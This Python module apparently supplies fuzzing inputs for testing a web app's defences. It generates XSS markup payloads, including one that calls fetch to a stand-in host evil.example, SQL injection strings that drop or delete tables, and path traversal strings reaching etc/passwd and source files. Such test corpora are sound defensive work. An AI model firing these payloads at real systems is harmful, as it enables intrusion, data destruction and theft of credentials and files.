"""What people have tried on pages like ours: markup, statements and paths."""

from itertools import product

__all__ = ["MARKUP", "PATHS", "STATEMENTS"]

_SCRIPTS = ["alert(1)", "fetch('//evil.example')", "alert`1`", "top[8680439..toString(30)](1)"]
_TAGS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script\t>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    '<img """><script>{}</script>">',
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<iframe src=javascript:{}>",
    '<iframe srcdoc="<script>{}</script>">',
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<form action=javascript:{}><button>",
    "<math><mtext></p><style><img src onerror={}></style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=javascript:{}>",
    "<base href=javascript:{}//>",
]
_SETTINGS = ["{}", '"{}', "'>{}", "]]>{}", "--></style></title></script>{}"]
# 4 times 25 times 5.
MARKUP = [
    setting.format(tag.format(script)).replace("\t", " ")
    for script, tag, setting in product(_SCRIPTS, _TAGS, _SETTINGS)
]

_OPENINGS = ["", "'", '"', "`", "\\'", "')", "1", "%", "tidy'", "\u02bc"]
_ATTACKS = [
    "; DROP TABLE ostinato_tasks",
    "; DELETE FROM ostinato_tasks",
    "; UPDATE ostinato_tasks SET paused = 1",
    " OR 1=1",
    " OR 'a'='a",
    " UNION SELECT 1, 2, 3",
    " AND (SELECT count(*) FROM sqlite_master) > 0",
    "; SELECT pg_sleep(10)",
    " || (SELECT load_extension('x'))",
    "; ATTACH DATABASE 'x.db' AS x",
]
_ENDINGS = ["--", ";#", "/*"]
# 10 times 10 times 3.
STATEMENTS = ["".join(parts) for parts in product(_OPENINGS, _ATTACKS, _ENDINGS)]

_UPS = [
    "../",
    "..%2f",
    "%2e%2e/",
    "%2e%2e%2f",
    "..\\",
    "..%5c",
    "....//",
    "..;/",
    "%252e%252e%252f",
    "/",
]
_TARGETS = ["etc/passwd", "__init__.py", "_api.py", "static/index.html"]
# 10 times 4 times 5, as they stand behind /static/.
PATHS = [up * depth + target for up, target, depth in product(_UPS, _TARGETS, [1, 2, 3, 8, 16])]
